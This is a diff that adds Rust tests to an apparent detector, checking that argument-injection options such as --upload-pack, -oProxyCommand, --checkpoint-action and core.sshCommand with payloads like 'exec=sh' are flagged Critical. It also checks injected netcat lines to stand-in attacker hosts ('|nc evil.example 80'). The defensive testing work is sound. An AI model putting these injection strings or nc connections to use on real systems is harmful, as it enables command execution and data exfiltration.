@@ -241,3 +241,61 @@ fn those_who_build_software_pass() {
         ],
     );
 }
+
+#[test]
+fn options_that_name_a_command_are_found() {
+    for name in [
+        "--upload-pack",
+        "--use-compress-program",
+        "--to-command",
+        "--rsh",
+        "--pager",
+        "-oProxyCommand",
+        "-o ProxyCommand",
+        "--checkpoint-action",
+        "--gpu-launcher",
+        "-c core.sshCommand",
+        "--exec",
+    ] {
+        for given in ["id", "/tmp/x", "exec=sh", "'touch x'"] {
+            let text = format!("{name}={given}");
+            assert_eq!(
+                severity(text.as_bytes()),
+                Some(Severity::Critical),
+                "{text}"
+            );
+        }
+    }
+    for text in [
+        "--color=auto",
+        "-5 = x",
+        "--upload-pack=<git-upload-pack>",
+        "--exec-prefix and --pager=x are what people would set for it",
+        "- command = id",
+        "-command",
+    ] {
+        assert_ne!(
+            severity(text.as_bytes()),
+            Some(Severity::Critical),
+            "{text}"
+        );
+    }
+}
+
+#[test]
+fn a_host_and_a_port_are_what_nc_takes() {
+    for opening in ["|", ";", "&&", "||", "\n", "';", "x|"] {
+        for host in ["evil.example", "10.0.0.1", "attacker.corp.local"] {
+            let text = format!("{opening}nc {host} 80");
+            assert_eq!(
+                severity(text.as_bytes()),
+                Some(Severity::Critical),
+                "{text}"
+            );
+        }
+    }
+    assert_ne!(
+        severity(b"we live in Raleigh; nc is our home"),
+        Some(Severity::Critical)
+    );
+}
